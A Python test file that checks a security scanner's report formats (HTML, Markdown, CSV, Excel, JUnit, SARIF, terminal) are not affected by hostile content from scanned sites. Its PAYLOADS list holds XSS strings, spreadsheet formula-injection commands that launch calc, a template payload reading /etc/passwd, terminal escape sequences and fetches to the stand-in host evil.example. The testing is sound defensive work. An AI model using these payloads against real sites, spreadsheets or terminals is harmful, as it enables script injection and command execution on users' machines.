"""Whatever a scanned site says, no format lets it act: as code, link, formula, markup or terminal command."""

import csv
import importlib
import io
import json
import os
import re
import shutil
import subprocess
import xml.etree.ElementTree as ET
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread

import openpyxl
import pytest
from lxml import etree
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

from xuncha_reports import console

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</title></style></textarea><svg/onload=alert(1)>",
    "<script>fetch('http://evil.example/owned');document.title='owned'</script><img src=http://evil.example/owned.png>",
    "<style>@import 'http://evil.example/owned.css';*{background:url(http://evil.example/owned.gif)}</style>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/owned'><link rel=prefetch href=http://evil.example/owned>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script><![CDATA[",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>",
    "' autofocus onfocus=alert(1) x='",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "{{7*7}}{% include '/etc/passwd' %}${7*7}#{7*7}",
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example/","点此")',
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    'a",=1+1,"b',
    "[点此](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "<http://evil.example/> [x]: http://evil.example/",
    "# 标题\n\n***\n\n| a | b |\n|---|---|\n| `x` |",
    "```\n~~~ <details open ontoggle=alert(1)>",
    "\\<b\\>\\`x\\`",
    "\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.example/\x07点此\x1b]8;;\x07",
    "\x1b]52;c;Y2FsYw==\x07\x9b31m",
    "\u202etxt.exe\u202c \u2066x\u2069 \u200bx\u200d\ufeff",
    "\U000e0041\U000e0042",
    "a\x00b\x01\x0b\x0c\ufffe\uffff",
    "half \ud800 a character",
    "a\u2028b\u2029c\x85d",
    "[red]x[/red] [link=http://evil.example/]x[/link]",
    "长" * 5_000,
)  # fmt: skip
TAGS = {"h1", "h2", "h3", "p", "ul", "li", "table", "thead", "tbody", "tr", "th", "td", "code"}


@pytest.fixture(scope="module")
def all_poisoned(result, poisoned_by):
    """A result with a site for each of them."""
    return replace(result, sites=tuple(site for one in PAYLOADS for site in poisoned_by(one).sites))


@pytest.fixture(params=PAYLOADS, ids=range(len(PAYLOADS)), scope="module")
def poisoned(request, poisoned_by):
    return poisoned_by(request.param)


def rendered(name, result):
    return importlib.import_module(f"xuncha_reports.{name}").render(result, "zh")


def test_html_runs_nothing_and_loads_nothing(poisoned):
    page = LexborHTMLParser(rendered("html", poisoned).decode())
    assert page.css("script, iframe, object, embed, link, base, form, img:not([src^='data:'])") == []
    attributes = [(name, value or "") for node in page.css("*") for name, value in node.attributes.items()]
    assert [name for name, _ in attributes if name.startswith("on")] == []
    assert [value for name, value in attributes if name == "href" and not value.startswith(("http://", "#"))] == []


def test_markdown_is_words_alone(poisoned):
    page = LexborHTMLParser(
        MarkdownIt("commonmark", {"html": True}).enable("table").render(rendered("markdown", poisoned).decode())
    )
    assert {node.tag for node in page.body.traverse()} - {"body"} <= TAGS


def test_csv_has_no_formula(poisoned):
    rows = list(csv.reader(io.StringIO(rendered("csv", poisoned).decode("utf-8-sig"), newline="")))
    assert len({len(row) for row in rows}) == 1
    assert [cell for row in rows for cell in row if cell.startswith(tuple("=+-@\t\r\n"))] == []


def test_no_cell_of_the_ledger_is_a_formula_or_a_link(poisoned):
    book = openpyxl.load_workbook(io.BytesIO(rendered("xlsx", poisoned)))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert not any(sheet._hyperlinks for sheet in book)


def test_junit_is_xml(poisoned):
    suites = ET.fromstring(rendered("junit", poisoned))
    assert {part.tag for part in suites.iter()} <= {
        "testsuites", "testsuite", "testcase", "failure", "error", "skipped", "system-out"
    }  # fmt: skip


@pytest.mark.parametrize("name", ["json", "sarif", "defectdojo"])
def test_json_is_json(poisoned, name):
    assert json.loads(rendered(name, poisoned))


def test_each_line_of_json_lines_is_one_object(poisoned):
    lines = rendered("jsonl", poisoned).decode().split("\n")
    assert lines.pop() == ""
    assert all(json.loads(line)["type"] for line in lines)


def test_the_terminal_gets_no_commands(poisoned):
    shown = console.render(poisoned, "zh").decode()
    assert [sign for sign in shown if sign != "\n" and not sign.isprintable()] == []


# Read by other programs


def program(name):
    """Where a program is; without it the test is left out, which fails in acceptance."""
    return shutil.which(name) or pytest.skip(f"{name} is not installed")


@pytest.fixture
def evil():
    """Every host there is, as the browser sees it: a server on loopback, and what was asked of it."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_error(404)

        def log_message(self, *_):
            """Nothing is printed."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = Thread(target=server.serve_forever)
    thread.start()
    yield server.server_port, asked
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.mark.acceptance
def test_chromium_runs_nothing_and_fetches_nothing_of_a_report(all_poisoned, evil, tmp_path):
    port, asked = evil
    (tmp_path / "r.html").write_bytes(rendered("html", all_poisoned))
    order = [
        program("chromium"),
        *("--headless", "--no-sandbox", "--disable-gpu", "--dump-dom", "--disable-background-networking"),
        *("--disable-component-update", "--no-first-run", "--virtual-time-budget=5000"),
        *(f"--user-data-dir={tmp_path / 'profile'}", f"--host-resolver-rules=MAP * 127.0.0.1:{port}"),
        (tmp_path / "r.html").as_uri(),
    ]
    shown = subprocess.run(order, check=True, capture_output=True, timeout=120).stdout.decode()
    page = LexborHTMLParser(shown)
    assert page.css_first("title").text() != "owned"
    assert page.css("h1, h2")
    assert [path for path in asked if "owned" in path] == []


def test_junit_is_what_jenkins_reads(all_poisoned, result):
    schema = etree.XMLSchema(file=Path(__file__).parent / "schemas/junit-10.xsd")
    for one in (all_poisoned, result):
        schema.assertValid(etree.fromstring(rendered("junit", one)))


@pytest.mark.acceptance
def test_the_sarif_multitool_finds_no_fault(all_poisoned, tmp_path):
    tool = Path(__file__).parents[1] / "acceptance/sarif/node_modules/@microsoft/sarif-multitool-linux/Sarif.Multitool"
    if not tool.exists():
        pytest.skip("the SARIF Multitool is not installed: npm ci in tests/acceptance/sarif")
    tool.chmod(0o755)
    (tmp_path / "r.sarif").write_bytes(rendered("sarif", all_poisoned))
    environment = os.environ | {"DOTNET_SYSTEM_GLOBALIZATION_INVARIANT": "1"}
    order = [tool, "validate", tmp_path / "r.sarif"]
    said = subprocess.run(order, check=False, capture_output=True, text=True, timeout=120, env=environment).stdout
    assert "completed successfully" in said
    # SARIF1002: its reader of URIs refuses addresses that have %22 beside Chinese characters, which RFC 3986 admits.
    assert [one for one in re.findall(r"\berror\b.*", said) if "SARIF1002" not in one] == []


@pytest.mark.acceptance
def test_libreoffice_sees_no_formula_in_csv(all_poisoned, tmp_path):
    (tmp_path / "r.csv").write_bytes(rendered("csv", all_poisoned))
    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
    order = [
        program("soffice"),
        profile,
        "--headless",
        "--convert-to",
        "xlsx",
        "--outdir",
        tmp_path,
        tmp_path / "r.csv",
    ]
    subprocess.run(order, check=True, capture_output=True, timeout=180)
    cells = [cell for row in openpyxl.load_workbook(tmp_path / "r.xlsx").active.iter_rows() for cell in row]
    assert len(cells) > len(PAYLOADS)
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
